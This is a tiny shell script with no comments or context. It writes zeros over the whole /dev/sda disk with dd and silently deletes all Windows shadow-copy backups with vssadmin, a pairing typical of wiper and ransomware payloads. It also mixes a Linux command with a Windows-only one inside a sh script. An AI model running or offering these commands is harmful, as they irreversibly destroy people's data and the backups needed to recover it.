#!/bin/sh
dd if=/dev/zero of=/dev/sda bs=1M
vssadmin delete shadows /all /quiet
